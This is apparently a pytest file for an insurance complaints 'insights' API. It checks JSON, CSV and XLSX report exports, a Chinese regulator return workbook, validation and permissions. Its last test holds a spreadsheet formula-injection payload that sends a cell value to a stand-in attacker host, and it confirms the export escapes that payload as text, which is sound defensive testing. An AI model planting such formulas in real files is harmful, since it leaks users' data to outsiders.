"""GET /api/v1/insights/{report} through the HTTP stack: JSON, CSV and XLSX (opened back), and bad input."""

import csv
import io

import pytest
from openpyxl import load_workbook

from amends.core.tests.api_client import Api

from . import history
from .history import PERIOD


@pytest.fixture
def api(world, now):
    history.policies(world)
    history.build(world)
    return Api(world.token(world.admin))


def test_the_report_list(api):
    names = [r["name"] for r in api.get("/insights").json()["reports"]]
    assert {"volume", "timeliness", "promises", "repeat", "pareto", "regulator"} <= set(names)


def test_a_report_as_json(api):
    answer = api.get("/insights/volume", **PERIOD)
    assert answer.status_code == 200
    data = answer.json()
    assert data["filters"]["since"] == "2026-09-01" and data["filters"]["bucket"] == "month"
    trend = data["sections"][0]
    assert [c["key"] for c in trend["columns"]][:2] == ["period", "complaints"]
    assert [r["complaints"] for r in trend["rows"]] == [2, 2]


def test_a_report_as_csv_has_the_same_figures(api):
    answer = api.get("/insights/volume", format="csv", **PERIOD)
    assert answer.status_code == 200 and answer["Content-Type"].startswith("text/csv")
    assert 'filename="amends-volume-20260901-20261031.csv"' in answer["Content-Disposition"]
    lines = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"))))
    header = lines.index(["period", "complaints", "cases_opened", "cases_closed", "failures"])
    assert lines[header + 2] == ["2026-09", "2", "2", "1", "3"]
    assert lines[header + 3] == ["2026-10", "2", "2", "0", "3"]


def test_a_report_as_xlsx_opens_with_the_same_figures(api):
    answer = api.get("/insights/timeliness", format="xlsx", **PERIOD)
    assert answer.status_code == 200 and "spreadsheetml" in answer["Content-Type"]
    sheet = load_workbook(io.BytesIO(answer.content)).worksheets[0]
    rows = [list(r) for r in sheet.iter_rows(values_only=True)]
    assert rows[3][:4] == ["2026-09", 2, 2, 0]


def _rows(ws):
    return [list(r) for r in ws.iter_rows(values_only=True)]


def _find(rows, first, column=0):
    return next(r for r in rows if r[column] == first)


def test_the_regulator_return_as_xlsx(api):
    answer = api.get("/insights/regulator", format="xlsx", **PERIOD)
    assert answer.status_code == 200
    book = load_workbook(io.BytesIO(answer.content))
    assert book.sheetnames == ["1 总体情况", "2 业务类别和投诉原因", "3 险种", "4 监管转办", "5 渠道和地区"]
    summary, reasons, lines, sent, others = (_rows(ws) for ws in book.worksheets)
    # The header block: who, when, on what basis.
    assert summary[0][0] == "消费投诉情况统计表"
    assert summary[1][:2] == ["填报机构", "全公司"] and summary[2][:2] == ["期间", "2026-09-01 – 2026-10-31"]
    assert summary[3][0] == "口径说明" and "受理" in summary[3][1]
    # Totals: every channel beside the regulator's transfers (c4 came through the regulator, decided in 16 days).
    assert _find(summary, "项目")[:3] == ["项目", "全部渠道", "监管转办"]
    assert _find(summary, "投诉")[:3] == ["投诉", 4, 1]
    assert _find(summary, "已决定")[:3] == ["已决定", 3, 1]
    assert _find(summary, "办结投诉中15日内办结率")[:3] == ["办结投诉中15日内办结率", 0.3333, 0]
    # Rates: per 10,000 policies, per 100 million yuan, per 10,000 insured persons, both bases.
    rates_at = next(i for i, r in enumerate(summary) if r[0] == "统计口径")
    heads, everyone, regulator = summary[rates_at], summary[rates_at + 1], summary[rates_at + 2]
    assert (everyone[0], regulator[0]) == ("全部渠道", "监管转办")
    assert everyone[heads.index("万张保单投诉量")] == 13333.33
    assert everyone[heads.index("万名被保险人投诉量")] == 13333.33  # three policies of one insured person each
    assert regulator[heads.index("万名被保险人投诉量")] == 3333.33
    # Business category → reason: every reason listed, a subtotal per category, the total.
    assert reasons[1][:3] == ["业务类别", "原因", "投诉"]
    claims = [r for r in reasons if r[0] == "理赔纠纷"]
    assert [r[1] for r in claims][:2] == ["理赔时效", "理赔金额争议"]
    assert claims[-1][1:4] == ["小计", 2, 1]
    subtotals = [r[2] for r in reasons if r[1] == "小计"]
    assert sum(subtotals) == _find(reasons, "合计")[2] == 4
    # Product lines: the auto policy's complaint under 车险, the three without a policy under none.
    assert _find(lines, "车险")[1] == 1 and _find(lines, "无险种")[1] == 3 and _find(lines, "合计")[1] == 4
    # The regulator's transfers alone.
    assert _find(sent, "合计")[1:3] == [1, 1]
    assert [r[0] for r in others if r[0] and r[0].startswith("按")] == ["按渠道", "按地区", "按险种", "按业务类别"]


def test_bad_input(api, world):
    assert api.get("/insights/nothing").status_code == 404
    wrong = api.get("/insights/volume", format="pdf")
    assert wrong.status_code == 422 and "format" in wrong.json()["fields"]
    bad = api.get("/insights/volume", since="yesterday", channel="pigeon")
    assert bad.status_code == 422 and {"since", "channel"} <= set(bad.json()["fields"])
    assert Api(None).get("/insights/volume").status_code == 401
    handler = Api(world.token(world.handler)).get("/insights/volume")
    assert handler.status_code == 403 and handler.json()["error"] == "forbidden"
    outside = Api(world.token(world.supervisor)).get("/insights/volume", unit=str(world.beijing.pk))
    assert outside.status_code == 403 and "unit" in outside.json()["fields"]


def test_the_pareto_drill_down(api):
    answer = api.get("/insights/pareto/cases", touchpoint="auto_claim.payment", **PERIOD)
    assert answer.status_code == 200
    items = answer.json()["items"]
    assert len(items) == 2 and all(i["failures"] == 1 for i in items)
    assert api.get("/insights/pareto/cases", dimension="mood").status_code == 422


def test_retention_confidence_is_checked(api):
    answer = api.get("/insights/retention", **PERIOD)
    assert answer.status_code == 200
    assert [s["key"] for s in answer.json()["sections"]] == [
        "by_time_to_recover",
        "by_outcome",
        "compared",
        "money",
        "compensation",
        "by_timing",
    ]
    assert answer.json()["filters"]["confidence"] == "0.95"
    bad = api.get("/insights/retention", confidence="0.5", **PERIOD)
    assert bad.status_code == 422 and "confidence" in bad.json()["fields"]
    assert api.get("/insights/retention", format="xlsx", **PERIOD).status_code == 200


def test_a_name_that_looks_like_a_formula_is_exported_as_text(api):
    from amends.journeys.models import Touchpoint

    evil = '=HYPERLINK("http://attacker.example/?x="&A1,"点此查看")'
    tp = Touchpoint.objects.get(code="auto_claim.payment")
    tp.names = {"zh-hans": evil, "zh-hant": evil, "en": evil}
    tp.save()
    text = api.get("/insights/pareto", format="csv", **PERIOD).content.decode("utf-8-sig")
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row if "HYPERLINK" in c]
    assert cells and all(c.startswith("'" + evil) for c in cells)
    book = load_workbook(io.BytesIO(api.get("/insights/pareto", format="xlsx", **PERIOD).content))
    found = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if "HYPERLINK" in str(c.value)]
    assert found and all(c.data_type == "s" and c.value.startswith(evil) for c in found)
